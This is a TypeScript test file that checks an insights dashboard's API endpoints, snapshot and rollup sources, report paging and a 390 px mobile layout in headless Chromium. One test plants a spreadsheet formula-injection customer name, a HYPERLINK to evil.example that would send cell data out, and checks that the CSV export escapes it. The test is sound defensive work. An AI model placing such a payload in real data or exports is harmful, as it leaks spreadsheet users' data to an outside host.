import { mkdirSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import express from 'express';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../helpers/test-database.ts';
import { createInsightsRouter } from '../../../connectors/console/insights.router.ts';
import { DEFAULT_BUSINESS_HOURS } from '../../../src/insights/business-hours.ts';
import { refreshInsightSnapshots } from '../../../src/insights/insight-snapshots.service.ts';
import { generateHistory, writeHistory, type GeneratedHistory } from '../../../bench/insights-history.ts';

const NOW = new Date('2026-11-30T15:00:00Z');
const SETTINGS = { businessHours: DEFAULT_BUSINESS_HOURS, responseTargetMinutes: 240, publicUrl: 'http://x' };
const ARTIFACTS = join(import.meta.dirname, '../../artifacts');

describe('the insights page and its API (PGlite, real Chromium)', () => {
  let t: TestDatabase;
  let server: Server;
  let browser: Browser;
  let base: string;
  let history: GeneratedHistory;

  beforeAll(async () => {
    t = await createTestDatabase('pglite');
    history = generateHistory({
      seed: 21,
      customers: 12,
      churners: 2,
      strength: 'clear',
      now: NOW,
      namePrefix: 'Page',
    });
    await writeHistory(t.db, history);
    const app = express();
    app.use(
      createInsightsRouter({
        db: t.db,
        settings: SETTINGS,
        now: () => NOW,
      }),
    );
    server = await new Promise<Server>((resolve) => {
      const s = app.listen(0, '127.0.0.1', () => resolve(s));
    });
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((r) => server?.close(r));
    await t?.dispose();
  });

  it('answers every JSON endpoint, with a sentence for a bad period or an unknown customer', async () => {
    // As before the refresh job's first run (other tests run it, in any order): no snapshot, and no
    // coverage row, so the rollups are not read either.
    await t.db.prisma.insightSnapshot.deleteMany({});
    for (const path of ['topics', 'health', 'responsiveness', 'satisfaction?by=label']) {
      const res = await fetch(`${base}/api/insights/${path}`);
      expect(res.status, path).toBe(200);
      expect((await res.json()).period.label).toBe('30d');
    }
    const health = await (await fetch(`${base}/api/insights/health`)).json();
    // The refresh job has not run: no snapshot, no rollups.
    expect(health).toMatchObject({ source: 'live' });
    const planted = history.companies
      .filter((c) => c.willChurn)
      .map((c) => c.name)
      .sort();
    expect(
      health.customers
        .slice(0, 2)
        .map((c: { name: string }) => c.name)
        .sort(),
    ).toEqual(planted);
    const bad = await fetch(`${base}/api/insights/topics?since=forever`);
    expect(bad.status).toBe(400);
    expect((await bad.json()).error).toMatch(/not a period/);
    const unknown = await fetch(`${base}/api/insights/health?customer=00000000-0000-4000-8000-000000000000`);
    expect(unknown.status).toBe(404);
    const csv = await fetch(`${base}/api/insights/report?format=csv`);
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="rapport-insights-30d.csv"');
    expect((await csv.text()).split('\n')[0]).toBe('section,group,kind,metric,value');
  });

  it('writes a customer named like a spreadsheet formula as text in the CSV report', async () => {
    const churner = history.companies.find((c) => c.willChurn)!;
    const formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")';
    const company = await t.db.prisma.company.findFirstOrThrow({ where: { name: churner.name } });
    await t.db.prisma.company.update({ where: { id: company.id }, data: { name: formula } });
    try {
      const csv = await (await fetch(`${base}/api/insights/report?format=csv&fresh=1&all=1`)).text();
      const rows = csv.trim().split('\n');
      expect(rows.some((r) => r.includes(`"'=HYPERLINK(""https://evil.example/?""&A2,""Open"")"`))).toBe(true);
      // No field of any row starts a formula (a quoted field's content neither).
      for (const row of rows) for (const field of row.split(',')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+@]/);
    } finally {
      await t.db.prisma.company.update({ where: { id: company.id }, data: { name: company.name } });
    }
  });

  it("serves whole-team figures from the refresh job's snapshot while fresh, and from its rollups with fresh=1, a customer or another period", async () => {
    await refreshInsightSnapshots(t.db, SETTINGS, NOW, ['30d']);
    const snap = await (await fetch(`${base}/api/insights/health?since=30d`)).json();
    expect(snap).toMatchObject({ source: 'snapshot', asOf: NOW.toISOString() });
    const live = await (await fetch(`${base}/api/insights/health?since=30d&fresh=1`)).json();
    // Whole days summed from the daily rollups the job built (up to today's UTC midnight), the edges live.
    const midnight = new Date(Math.floor(NOW.getTime() / 86_400_000) * 86_400_000).toISOString();
    expect(live).toMatchObject({ source: 'rollups', asOf: midnight });
    expect(live.customers.map((c: { companyId: string }) => c.companyId)).toEqual(
      snap.customers.map((c: { companyId: string }) => c.companyId),
    );
    const one = history.companies[0];
    expect((await (await fetch(`${base}/api/insights/health?since=30d&customer=${one.id}`)).json()).source).toBe(
      'rollups',
    );
    for (const path of ['responsiveness?since=45d', 'satisfaction?since=45d&by=team'])
      expect((await (await fetch(`${base}/api/insights/${path}`)).json()).source, path).toBe('rollups');
    expect((await (await fetch(`${base}/api/insights/satisfaction?since=30d&by=label`)).json()).source).toBe(
      'snapshot',
    );
    // Topics cluster a sample of the messages themselves: live for a period without a snapshot.
    expect((await (await fetch(`${base}/api/insights/topics?since=14d`)).json()).source).toBe('live');
    // Less than a whole UTC day: nothing to sum from the rollups.
    expect((await (await fetch(`${base}/api/insights/health?since=1d`)).json()).source).toBe('live');
  });

  it('pages the report: the riskiest 1,000 by default with counts of all, offset/limit another page, all=1 every one', async () => {
    await refreshInsightSnapshots(t.db, SETTINGS, NOW, ['30d']);
    const get = async (q: string) => {
      const res = await fetch(`${base}/api/insights/report?since=30d${q}`);
      return { status: res.status, body: await res.json() };
    };
    const whole = (await get('&fresh=1&all=1')).body.health;
    expect(whole.scored).toBeGreaterThan(5);
    expect(whole.customers).toHaveLength(whole.scored);
    expect(whole.atRiskCount).toBe(whole.customers.filter((c: { atRisk: boolean }) => c.atRisk).length);
    const ids = (h: { customers: { companyId: string }[] }) => h.customers.map((c) => c.companyId);
    for (const q of ['', '&fresh=1']) {
      const first = (await get(q)).body.health;
      expect(first).toMatchObject({ scored: whole.scored, atRiskCount: whole.atRiskCount, offset: 0 });
      expect(ids(first)).toEqual(ids(whole));
      const page = (await get(`${q}&offset=2&limit=3`)).body.health;
      expect(page).toMatchObject({ scored: whole.scored, atRiskCount: whole.atRiskCount, offset: 2 });
      expect(ids(page)).toEqual(ids(whole).slice(2, 5));
      expect(page.atRisk.map((c: { companyId: string }) => c.companyId)).toEqual(
        whole.customers
          .slice(2, 5)
          .filter((c: { atRisk: boolean }) => c.atRisk)
          .map((c: { companyId: string }) => c.companyId),
      );
    }
    const bad = await get('&limit=0');
    expect(bad.status).toBe(400);
    expect(bad.body.error).toMatch(/limit must be a whole number of at least 1/);
    // The health endpoint counts every scored customer, not the snapshot's list.
    expect((await (await fetch(`${base}/api/insights/health?since=30d`)).json()).scored).toBe(whole.scored);
  });

  it('draws the four panels with ECharts served locally, down to 390 px wide', async () => {
    const page = await browser.newPage({ viewport: { width: 390, height: 1400 } });
    const outside: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(base)) outside.push(r.url());
    });
    await page.goto(`${base}/console/insights`);
    await page.waitForFunction(() => document.getElementById('status')?.textContent?.startsWith('Updated'), null, {
      timeout: 60_000,
    });
    for (const id of ['topics-chart', 'response-chart', 'satisfaction-chart'])
      expect(await page.locator(`#${id} svg`).count(), id).toBe(1);
    const planted = history.companies.filter((c) => c.willChurn).map((c) => c.name);
    const healthText = await page.locator('#health').textContent();
    for (const name of planted) expect(healthText).toContain(name);
    expect(await page.locator('#topics .topic').count()).toBeGreaterThan(0);
    // Nothing wider than the phone's screen, and nothing fetched from elsewhere (no CDN).
    const wide = await page.evaluate(() =>
      Array.from(document.querySelectorAll('body *'))
        // Inside a chart box (overflow hidden) a label may run past it without widening the page.
        .filter((e) => e.getBoundingClientRect().right > 391 && !e.closest('.chart'))
        .map((e) => `${e.tagName}#${e.id}.${e.className}`)
        .slice(0, 5),
    );
    expect(wide).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    expect(outside).toEqual([]);
    mkdirSync(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTIFACTS, 'insights-390.png'), fullPage: true });
    await page.close();
  });
});
